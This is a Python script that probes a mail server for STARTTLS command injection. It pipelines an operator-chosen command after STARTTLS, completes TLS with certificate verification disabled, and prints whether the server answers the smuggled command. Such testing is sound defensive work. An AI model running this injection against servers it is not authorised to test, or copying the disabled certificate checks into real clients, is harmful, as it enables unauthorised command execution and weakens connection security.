"""STARTTLS injection: does a server obey commands that came in clear, after the handshake?

starttls_injection.py HOST PORT INJECTED

Sends `STARTTLS CRLF INJECTED CRLF` in one packet, does the handshake, then says NOOP. Prints every
line that comes under TLS, up to the answer to a final QUIT. A server that discards what it had
buffered answers NOOP first; one that does not answers INJECTED first.
"""

import socket
import ssl
import sys


def main():
    host, port, injected = sys.argv[1:4]
    plain = socket.create_connection((host, int(port)), timeout=30)
    reader = plain.makefile("rb")
    read_reply(reader)
    plain.sendall(b"EHLO injection.example\r\n")
    read_reply(reader)
    plain.sendall(b"STARTTLS\r\n" + injected.encode() + b"\r\n")
    code, _ = read_reply(reader)
    if code != 220:
        print("STARTTLS refused:", code)
        return 0
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    secure = context.wrap_socket(plain)
    secure.sendall(b"NOOP\r\nQUIT\r\n")
    reader = secure.makefile("rb")
    for line in reader:
        print(line.decode("utf-8", "replace").rstrip())
        if line[:4] in (b"221 ", b"421 "):
            break
    return 0


def read_reply(reader):
    while True:
        line = reader.readline()
        if not line:
            raise SystemExit("the connection ended")
        if line[3:4] != b"-":
            return int(line[:3]), line


sys.exit(main())
